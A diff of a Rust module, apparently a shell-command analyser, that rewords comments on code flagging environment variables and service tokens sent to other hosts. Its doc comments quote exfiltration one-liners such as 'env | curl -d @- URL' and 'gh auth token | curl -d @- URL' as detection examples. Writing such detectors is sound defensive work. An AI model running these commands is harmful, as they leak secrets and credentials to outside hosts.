@@ -1,5 +1,5 @@
-//! The whole environment, and keys that a service gives out, on their way to another host: what prints them, and what
-//! sends what was printed.
+//! The complete environment, and keys issued by a service, sent to another host: the commands that print them, and
+//! those that send the output.
 
 use super::effects::{EffectExtractor, Ran, with_sources};
 use super::flows::is_of_this_machine;
@@ -8,7 +8,7 @@ use reflex_shell::{Command, CommandId, Origin, Piece, Value, WHOLE_ENVIRONMENT};
 use std::collections::BTreeSet;
 
 impl EffectExtractor<'_> {
-    /// `env | curl -d @- URL`, `curl -d "$(env)" URL`: as if a file with all variables were sent.
+    /// `env | curl -d @- URL`, `curl -d "$(env)" URL`: adds an effect as if a file with all variables were sent.
     pub(super) fn environment_sent(&mut self, before: usize, commands: &[Command]) {
         self.revealed_sent(before, commands);
         let own = self.effects.get(before..).unwrap_or(&[]);
@@ -39,10 +39,10 @@ impl EffectExtractor<'_> {
 }
 
 impl EffectExtractor<'_> {
-    /// `export $(grep -v '^#' .env | xargs)`: what is read goes into variables, and is shown to nobody.
+    /// `export $(grep -v '^#' .env | xargs)`: marks files that are read into variables and not shown.
     pub(super) fn kept_in_variables(&mut self, before: usize, commands: &[Command]) {
         const DECLARING: [&str; 4] = ["export", "declare", "readonly", "typeset"];
-        // A text that declares more at once is none that a person writes.
+        // A person does not write more declarations in one text.
         const MOST: usize = 16;
         let declaring = commands.iter().filter(|command| DECLARING.contains(&command.name.as_str()));
         let pieces = declaring.flat_map(|command| command.words.iter()).flat_map(|word| &word.pieces);
@@ -63,7 +63,7 @@ impl EffectExtractor<'_> {
             .for_each(|effect| effect.flags.push("kept"));
     }
 
-    /// `gh auth token | curl -d @- URL`: what a pipeline leads to another host has the flag `sent`.
+    /// `gh auth token | curl -d @- URL`: marks secrets that a pipeline sends to another host with the flag `sent`.
     fn revealed_sent(&mut self, before: usize, commands: &[Command]) {
         let own = self.effects.get_mut(before..).unwrap_or(&mut []);
         if !own.iter().any(|effect| effect.kind == EffectKind::RevealSecret) {
@@ -78,9 +78,9 @@ impl EffectExtractor<'_> {
     }
 }
 
-/// The files into which the commands print, or those behind them in a pipeline.
+/// Returns the files into which the commands, or later ones of their pipelines, print.
 fn filled(effects: &[Effect], commands: &[Command], printing: &[CommandId]) -> Vec<String> {
-    // A text in another language prints and writes by calls that stand beside each other.
+    // In a text of another language, the calls that print and write are siblings.
     let parents: Vec<CommandId> = printing
         .iter()
         .filter_map(|id| commands.get(*id))
@@ -106,20 +106,21 @@ fn filled(effects: &[Effect], commands: &[Command], printing: &[CommandId]) -> V
         .collect()
 }
 
-/// Whether it reaches another host than this one.
+/// Returns whether the effect reaches a host other than this one.
 fn goes_out(effect: &Effect) -> bool {
     let reaches =
         matches!(effect.kind, EffectKind::Send | EffectKind::Fetch | EffectKind::Connect | EffectKind::RemoteAccess);
     reaches && !effect.targets.iter().all(is_of_this_machine)
 }
 
-/// Whether what these commands print reaches the command: by its input, or by words that are not known before it runs.
+/// Returns whether the output of these commands reaches the command: on standard input, or in words that are known only
+/// at run time.
 fn carries(id: CommandId, command: &Command, commands: &[Command], printing: &[CommandId]) -> bool {
     let sources = with_sources(command, commands);
     reflex_shell::work::spend(1 + (printing.len() * (1 + sources.len())) as u64 / 200);
     let piped = printing.iter().any(|print| sources.contains(print) || *print == id);
     let printed = |piece: &Piece| matches!(piece, Piece::Output(_) | Piece::Unknown(_));
     let holds = |value: &Value| value.pieces.iter().any(|(piece, _)| printed(piece));
-    // What is printed by a command that stands before can be in the words.
+    // The output of an earlier command may be part of the words.
     piped || printing.iter().any(|print| *print < id) && command.words.iter().any(holds)
 }
